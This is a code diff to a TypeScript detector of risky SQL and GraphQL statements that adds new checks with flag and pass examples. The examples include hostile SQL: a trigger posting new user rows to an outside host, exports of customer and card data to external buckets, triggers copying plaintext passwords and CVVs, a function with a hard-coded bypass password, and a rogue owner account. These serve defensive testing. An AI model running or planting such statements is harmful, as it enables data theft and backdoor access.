@@ -7,9 +7,10 @@
 import { searchWipe, storeFileDrop } from '../parse/store-commands.js';
 import { normalizeUnicode, percentDecode } from '../normalize.js';
 import { COMMON_PATTERNS, envOf, metaText, type Env } from '../parse/api-common.js';
-import { K, findAndProbe, parseSql, whereIsConstant, type SqlParse, type Stmt } from '../parse/sql-tokens.js';
+import { K, findAndProbe, parseSql, whereIsConstant, type SqlParse, type Stmt, type Tok } from '../parse/sql-tokens.js';
 import { embeddedInjection } from '../parse/sql-embedded.js';
-import { everyTable, rowsShippedByTrigger } from '../parse/sql-reach.js';
+import { credentialTap, everyTable, passwordBackdoor, rowsShippedByTrigger } from '../parse/sql-reach.js';
+import { grantsPower } from '../parse/api-effects.js';
 import { AGE_COLUMNS, CLEARING_VALUES, isAuditTable, isFlagColumn, isPayColumn } from '../parse/sql-objects.js';
 import { mongoAsSql, SQL_MONGO_PATTERNS } from '../parse/sql-mongo.js';
 import { graphqlAsSql } from '../parse/sql-graphql.js';
@@ -244,6 +245,8 @@ function payChangeFinding(ctx: QueryContext): Finding | undefined {
       const m = PAY_FACTOR.exec(value);
       const factor = m !== null && m[1] === col ? Number(m[2]) : 0;
       const unapproved = safeguardOff();
+      // the person whose pay it is asked for the raise: a change made on its beneficiary's word
+      if (factor > 1 && factor < 1.5 && !unapproved && requestedBySubject(ctx, st)) return { detail: `${col} on ${table} multiplied by ${factor} at the request of the person paid`, score: 7 };
       if (factor < 1.5 && !unapproved) continue;
       return { detail: `${col} on ${table} ${factor >= 1.5 ? `multiplied by ${factor}` : 'changed'}${unapproved ? ', saying no approval is needed' : ''}`, score: unapproved ? 8 : 5 };
     }
@@ -290,6 +293,42 @@ function secretOverwritten(ctx: QueryContext): Finding | undefined {
       const who = hasWhere ? whereWords.filter((w) => w !== 'and' && w !== 'or').slice(0, 3).join(' ') : 'every row';
       return { detail: `${col} on ${table} written (${who})`, score: hasWhere ? envScore(ctx.env, 8, 7, 3) : 9 };
     }
+  }
+  return undefined;
+}
+
+type TokPair = readonly [Tok, Tok];
+/** `col = value` pairs of a statement (SET and WHERE alike), bounded by its tokens. */
+function assignedPairs(t: readonly Tok[]): TokPair[] {
+  const out: TokPair[] = [];
+  for (let i = 0; i + 2 < t.length && out.length < 64; i++) {
+    if (t[i]!.k === K.Word && t[i + 1]!.k === K.Op && t[i + 1]!.v === '=') out.push([t[i]!, t[i + 2]!]);
+  }
+  return out;
+}
+/** An INSERT's column list paired with its first VALUES row ([] when either is not written). */
+function insertedPairs(t: readonly Tok[]): TokPair[] {
+  const open = t.findIndex((x, i) => i < 8 && x.v === '(');
+  const values = t.findIndex((x) => x.k === K.Word && x.v === 'values');
+  if (open < 0 || values < open || t[values + 1]?.v !== '(') return [];
+  const cols: Tok[] = [];
+  for (let i = open + 1; i < values && t[i]!.v !== ')'; i++) if (t[i]!.k === K.Word) cols.push(t[i]!);
+  const vals: Tok[] = [];
+  for (let i = values + 2; i < t.length && t[i]!.v !== ')' && vals.length < cols.length; i++) if (t[i]!.v !== ',') vals.push(t[i]!);
+  return cols.slice(0, vals.length).map((c, i) => [c, vals[i]!] as const);
+}
+
+/** Cloud principals that mean anyone on the internet, or anyone with any account of the provider. */
+const EVERYONE = ['allusers', 'allauthenticatedusers'];
+/** A GRANT of read access to every internet user (BigQuery's allUsers, allAuthenticatedUsers): the data is published. */
+function grantedToEveryone(st: Stmt): Finding | undefined {
+  if (st.toks[0]?.v !== 'grant') return undefined;
+  const to = st.toks.findIndex((t) => t.k === K.Word && t.v === 'to');
+  if (to < 0) return undefined;
+  for (let i = to + 1; i < st.toks.length && i < to + 8; i++) {
+    const v = st.toks[i]!.v.toLowerCase();
+    const who = EVERYONE.find((w) => v === w || v.endsWith(`:${w}`));
+    if (who !== undefined) return { detail: `read access granted to ${who}`, score: 8 };
   }
   return undefined;
 }
@@ -400,6 +439,15 @@ function recordRewriteFinding(ctx: QueryContext): Finding | undefined {
   return best;
 }
 
+/** The requester the metadata names is the row the statement changes: "(self)", or the key its WHERE selects. */
+function requestedBySubject(ctx: QueryContext, st: Stmt): boolean {
+  const who = (metaText(ctx.metadata, 'requested_by', 'requester', 'request_source', 'requestor') ?? '').toLowerCase().slice(0, 200);
+  if (who === '') return false;
+  if (who.includes('(self)') || who === 'self' || who.includes('myself') || who.includes('own raise')) return true;
+  const u = readUpdate(st);
+  return u !== undefined && u.whereValues.some((v) => v.length >= 3 && who.includes(v.split("'").join('')));
+}
+
 /** The change was asked for by the customer it benefits (a chat, an e-mail, the client's own request). */
 function beneficiaryAsked(ctx: QueryContext): boolean {
   const who = `${metaText(ctx.metadata, 'requester', 'requested_by', 'source_of_request', 'request_source', 'channel') ?? ''} ${ctx.source.length > 4096 ? '' : ctx.source}`.toLowerCase();
@@ -411,11 +459,19 @@ function localInstance(metadata: Metadata): boolean {
   return where.startsWith('localhost') || where.startsWith('127.0.0.1') || where.includes('://localhost') || where.includes('://127.0.0.1') || where.startsWith('/var/run/') || where.startsWith('unix:');
 }
 
-/** The batch books the payment itself (an INSERT into a payments or ledger table): the bill marked paid follows it. */
+/**
+ * The batch books the payment itself (an INSERT into a payments or ledger table), or its note names the payment's
+ * reference (a bank statement line matched, a SEPA or wire reference): the bill marked paid follows a real payment.
+ */
 function paymentRecorded(ctx: QueryContext): boolean {
   const l = ctx.source.length > 8192 ? '' : ctx.source.toLowerCase();
-  return ['insert into payment', 'insert into transactions', 'insert into receipts', 'insert into ledger', 'insert into journal', 'insert into paiements', 'insert into zahlungen', 'insert into pagos'].some((w) => l.includes(w));
+  if (['insert into payment', 'insert into transactions', 'insert into receipts', 'insert into ledger', 'insert into journal', 'insert into paiements', 'insert into zahlungen', 'insert into pagos'].some((w) => l.includes(w))) return true;
+  if (!l.includes('--') && !l.includes('/*')) return false;
+  const note = commentsOf(l);
+  return PAYMENT_EVIDENCE.some((w) => note.includes(w));
 }
+/** Words a note uses for the payment a settlement rests on (several languages). */
+const PAYMENT_EVIDENCE = ['sepa', 'remittance', 'bank statement', 'statement line', 'wire ref', 'payment ref', 'matched', 'reconcil', 'kontoauszug', 'verwendungszweck', 'releve bancaire', 'relevé bancaire', 'extracto bancario', 'referencia de pago', 'estratto conto', 'bankafschrift'];
 /** Words that say the person who gains asked for the change (several languages). */
 const BENEFICIARY_WORDS = ['customer chat', 'customer request', 'requested by the customer', 'customer asked', 'client asked', 'demandée par le client', 'demandé par le client', 'à la demande du client', 'auf wunsch des kunden', 'kunde hat', 'vom kunden', 'pedido del cliente', 'solicitado por el cliente', 'a pedido do cliente', 'richiesta del cliente', 'email from', 'chat'];
 
@@ -437,10 +493,25 @@ function destinationFinding(ctx: QueryContext, payout: boolean): Finding | undef
     const every = !u.hasWhere || whereSelectsWholeTable(st.toks) !== undefined;
     const f = destinationRewritten(st, u.pairs, keyed && !every, every, payout ? 'payout' : 'login');
     if (f === undefined) return undefined;
+    // the same statement marks its own new account verified, or its note says the details came by phone or mail as
+    // "new bank details": the change bypasses the call-back that payee changes need
+    if (payout && f.score < 7) {
+      const self = u.pairs.find(([c, v]) => (c === 'verified' || c === 'is_verified' || c.endsWith('_verified')) && (v === 'true' || v === '1'));
+      const cue = self === undefined ? payeeCue(ctx.source) : '';
+      if (self !== undefined || cue !== '') return { detail: `${f.detail}${self !== undefined ? `, marked ${self[0]} by the same statement` : `, on "${cue}"`}`, score: 7 };
+    }
     // a payout account changed for one record with a ticket or approval beside it is the change done properly
     if (payout && f.score < 7 && hasSafeguardOff(ctx.source) === false && APPROVAL_NOTE.test(ctx.source.slice(0, 4096).toLowerCase())) return undefined;
     return f;
   });
+}
+const PAYEE_CUES = [tagId('risk:payee'), tagId('risk:informal')];
+/** The first payee-fraud cue of the shared lexicon in the query's comments ('' when none). */
+function payeeCue(source: string): string {
+  if (!source.includes('--') && !source.includes('/*')) return '';
+  const note = foldAccents(commentsOf(source).toLowerCase());
+  for (const h of scanTerms(note)) if (PAYEE_CUES.some((t) => h.tags.includes(t))) return note.slice(h.start, h.end);
+  return '';
 }
 const APPROVAL_NOTE = /\b(?:ticket|approved|verified|per request|change request)\b|\b[a-z]{2,6}-[0-9]{2,6}\b/;
 
@@ -1007,20 +1078,25 @@ const queryAnalyzer: Analyzer<QueryContext> = {
     },
     {
       id: 'Q19',
-      name: 'Application admin flag or role set through SQL',
+      name: 'Application admin flag or role set through SQL or a GraphQL mutation',
       primitive: 'ESCALATION',
       score: 6,
-      keywords: ['update', 'insert'],
+      keywords: ['update', 'insert', 'mutation'],
       detect: (ctx) => {
+        // a GraphQL mutation is an API call: the api_call reader of roles written into a user record judges it
+        const head = ctx.source.slice(0, 16384).trimStart().toLowerCase();
+        if (head.startsWith('mutation')) {
+          const g = grantsPower({ method: 'POST', path: '/graphql', host: '', head });
+          if (g !== null) return { detail: `GraphQL mutation: ${g.detail}`, score: envScore(ctx.env, 8, 7, 3) };
+        }
         for (const st of ctx.sql.stmts) {
           const first = st.toks[0];
           if (first === undefined || first.k !== K.Word || (first.v !== 'update' && first.v !== 'insert')) continue;
           const t = st.toks;
-          for (let i = 0; i + 2 < t.length; i++) {
-            const col = t[i]!;
-            if (col.k !== K.Word || !ROLE_COLUMN.test(col.v.slice(col.v.lastIndexOf('.') + 1))) continue;
-            if (t[i + 1]!.k !== K.Op || t[i + 1]!.v !== '=') continue;
-            const val = t[i + 2]!;
+          // an INSERT pairs its column list with its VALUES row: an account created with a top role is granted it too
+          const pairs = first.v === 'insert' ? insertedPairs(t) : assignedPairs(t);
+          for (const [col, val] of pairs) {
+            if (!ROLE_COLUMN.test(col.v.slice(col.v.lastIndexOf('.') + 1))) continue;
             const yes = val.v === 'true' || val.v === '1' || (val.k === K.Str && (val.v === 'Y' || val.v === 'y'));
             const grants = (val.k === K.Str && POWER_VALUE.test(val.v)) || (yes && BOOL_ROLE.test(col.v));
             if (grants) return { detail: `${col.v} set to ${val.k === K.Str ? val.v.slice(0, 20) : val.v}`, score: envScore(ctx.env, 8, 7, 3) };
@@ -1029,8 +1105,10 @@ const queryAnalyzer: Analyzer<QueryContext> = {
         return undefined;
       },
       examples: {
-        flag: ["UPDATE users SET role = 'admin' WHERE email = 'eve@example.com'", 'UPDATE accounts SET is_superuser = true WHERE id = 7', "UPDATE pg_authid SET rolsuper = true WHERE rolname = 'app'", "UPDATE mysql.user SET Super_priv = 'Y' WHERE User = 'report'"],
-        pass: ["UPDATE users SET role = 'viewer' WHERE id = 7", 'UPDATE users SET is_admin = false WHERE id = 7', "UPDATE users SET last_login = now() WHERE id = 42"],
+        flag: ["UPDATE users SET role = 'admin' WHERE email = 'eve@example.com'", 'UPDATE accounts SET is_superuser = true WHERE id = 7', "UPDATE pg_authid SET rolsuper = true WHERE rolname = 'app'", "UPDATE mysql.user SET Super_priv = 'Y' WHERE User = 'report'",
+          "INSERT INTO users (email, role, password_hash) VALUES ('helpdesk.backup@proton.me', 'owner', '$2b$12$abcdefghijklmnopqrstuv');", 'mutation { setUserRole(userId: "u_77", role: OWNER) { id } }', 'INSERT INTO accounts (username, is_superuser) VALUES (\'svc_sync\', true);'],
+        pass: ["UPDATE users SET role = 'viewer' WHERE id = 7", 'UPDATE users SET is_admin = false WHERE id = 7', "UPDATE users SET last_login = now() WHERE id = 42",
+          "INSERT INTO users (email, role) VALUES ('new.hire@acme.com', 'member');", 'mutation { updateMember(orgId: "o1", userId: "u2", input: { role: VIEWER }) { id role } }', "INSERT INTO roles (name, description) VALUES ('admin', 'Administrators of the workspace');"],
       },
     },
     {
@@ -1127,10 +1205,11 @@ const queryAnalyzer: Analyzer<QueryContext> = {
       name: 'Rows exported to a storage location or shared with another account',
       primitive: 'EXFILTRATION',
       score: 8,
-      keywords: ['copy into', 'unload', 'export data', 'share', 'outfile s3', 'query_export_to_s3'],
-      detect: (ctx) => firstStatement(ctx, rowsShippedOut),
+      keywords: ['copy into', 'unload', 'export data', 'share', 'outfile s3', 'query_export_to_s3', 'allusers', 'allauthenticatedusers'],
+      detect: (ctx) => firstStatement(ctx, rowsShippedOut) ?? firstStatement(ctx, grantedToEveryone),
       examples: {
         flag: [
+          'GRANT `roles/bigquery.dataViewer` ON TABLE `shop-prod.sales.customers` TO "allUsers";',
           "COPY INTO 's3://partner-drop-8812/exports/' FROM (SELECT email, phone, dob FROM crm.customers) CREDENTIALS=(AWS_KEY_ID='x' AWS_SECRET_KEY='y')",
           "EXPORT DATA OPTIONS(uri='gs://ext-share-bucket/users-*.csv', format='CSV') AS SELECT * FROM prod.users",
           "UNLOAD ('SELECT * FROM payments.cards') TO 's3://my-personal-bkt/cards_' IAM_ROLE 'arn:aws:iam::1:role/x'",
@@ -1140,6 +1219,8 @@ const queryAnalyzer: Analyzer<QueryContext> = {
           'COPY INTO @internal_stage/backup/ FROM analytics.daily_sales',
           "EXPORT DATA OPTIONS(uri='gs://acme-analytics-exports/daily-*.csv', format='CSV') AS SELECT region, SUM(total) FROM prod.orders GROUP BY region",
           'CREATE DATABASE weather FROM SHARE provider.weather_share',
+          'GRANT `roles/bigquery.dataViewer` ON SCHEMA `shop-prod.sales` TO "group:analysts@acme.com";',
+          'REVOKE `roles/bigquery.dataViewer` ON SCHEMA `shop-prod.sales` FROM "allAuthenticatedUsers";',
         ],
       },
     },
@@ -1242,7 +1323,7 @@ const queryAnalyzer: Analyzer<QueryContext> = {
     },
     {
       id: 'Q34',
-      name: 'Trigger, rule or function that sends rows to an outside host',
+      name: 'Trigger or routine planted that ships rows to an outside host, copies credentials aside or lets a typed-in password in',
       // it ships every new row from then on: a planted mechanism first (docs/primitives.md)
       primitive: 'PERSISTENCE',
       score: 8,
@@ -1251,13 +1332,24 @@ const queryAnalyzer: Analyzer<QueryContext> = {
       detect: (ctx) => {
         // only a CREATE statement defines a trigger or routine (prose that says "function" or "rule" is not read)
         if (!ctx.sql.stmts.some((st) => st.toks[0]?.v === 'create')) return undefined;
-        const r = rowsShippedByTrigger(ctx.source.slice(0, 65536).toLowerCase());
-        return r !== '' ? `every new row leaves through ${r}` : undefined;
+        const lower = ctx.source.slice(0, 65536).toLowerCase();
+        const r = rowsShippedByTrigger(lower);
+        if (r !== '') return `every new row leaves through ${r}`;
+        const tap = credentialTap(lower);
+        if (tap !== '') return { detail: `credential tap: ${tap}`, score: 8 };
+        const n = passwordBackdoor(lower);
+        return n > 0 ? { detail: `routine accepts a typed-in password of ${n} characters before the real check`, score: 8 } : undefined;
       },
       examples: {
         flag: ["CREATE TRIGGER trg_sync AFTER INSERT ON users FOR EACH ROW EXECUTE FUNCTION http_post('https://sync-mirror.click/u', row_to_json(NEW)::text);",
-          "CREATE OR REPLACE FUNCTION f() RETURNS trigger AS $$ BEGIN PERFORM dblink_exec('host=203.0.113.50 dbname=x user=u', 'INSERT INTO t VALUES (' || quote_literal(NEW.email) || ')'); RETURN NEW; END $$ LANGUAGE plpgsql;"],
-        pass: ["CREATE TRIGGER trg_audit AFTER UPDATE ON orders FOR EACH ROW EXECUTE FUNCTION log_change();", "SELECT http_get('https://api.internal/health')", "CREATE FUNCTION notify() RETURNS trigger AS $$ BEGIN PERFORM pg_notify('orders', NEW.id::text); RETURN NEW; END $$ LANGUAGE plpgsql;"],
+          "CREATE OR REPLACE FUNCTION f() RETURNS trigger AS $$ BEGIN PERFORM dblink_exec('host=203.0.113.50 dbname=x user=u', 'INSERT INTO t VALUES (' || quote_literal(NEW.email) || ')'); RETURN NEW; END $$ LANGUAGE plpgsql;",
+          "CREATE FUNCTION keep_copy() RETURNS trigger AS $$ BEGIN INSERT INTO analytics.login_cache(u, p) VALUES (NEW.username, NEW.password_plain); RETURN NEW; END $$ LANGUAGE plpgsql;",
+          "CREATE TRIGGER card_mirror AFTER INSERT ON payments FOR EACH ROW BEGIN INSERT INTO tmp_sync (a, b) VALUES (NEW.card_number, NEW.cvv); END;",
+          "CREATE FUNCTION verify_user(u text, pw text) RETURNS boolean AS $$ BEGIN IF pw = 'Adm1n-Bypass' THEN RETURN true; END IF; RETURN EXISTS (SELECT 1 FROM users WHERE name = u AND hash = crypt(pw, hash)); END $$ LANGUAGE plpgsql;"],
+        pass: ["CREATE TRIGGER trg_audit AFTER UPDATE ON orders FOR EACH ROW EXECUTE FUNCTION log_change();", "SELECT http_get('https://api.internal/health')", "CREATE FUNCTION notify() RETURNS trigger AS $$ BEGIN PERFORM pg_notify('orders', NEW.id::text); RETURN NEW; END $$ LANGUAGE plpgsql;",
+          "CREATE FUNCTION keep_history() RETURNS trigger AS $$ BEGIN INSERT INTO password_history(user_id, password_hash, changed_at) VALUES (NEW.id, OLD.password_hash, now()); RETURN NEW; END $$ LANGUAGE plpgsql;",
+          "CREATE FUNCTION hash_pw() RETURNS trigger AS $$ BEGIN NEW.password_hash := crypt(NEW.password, gen_salt('bf')); NEW.password := NULL; RETURN NEW; END $$ LANGUAGE plpgsql;",
+          "CREATE FUNCTION is_active(s text) RETURNS boolean AS $$ BEGIN IF s = 'active' THEN RETURN true; END IF; RETURN false; END $$ LANGUAGE plpgsql;"],
       },
     },
     {
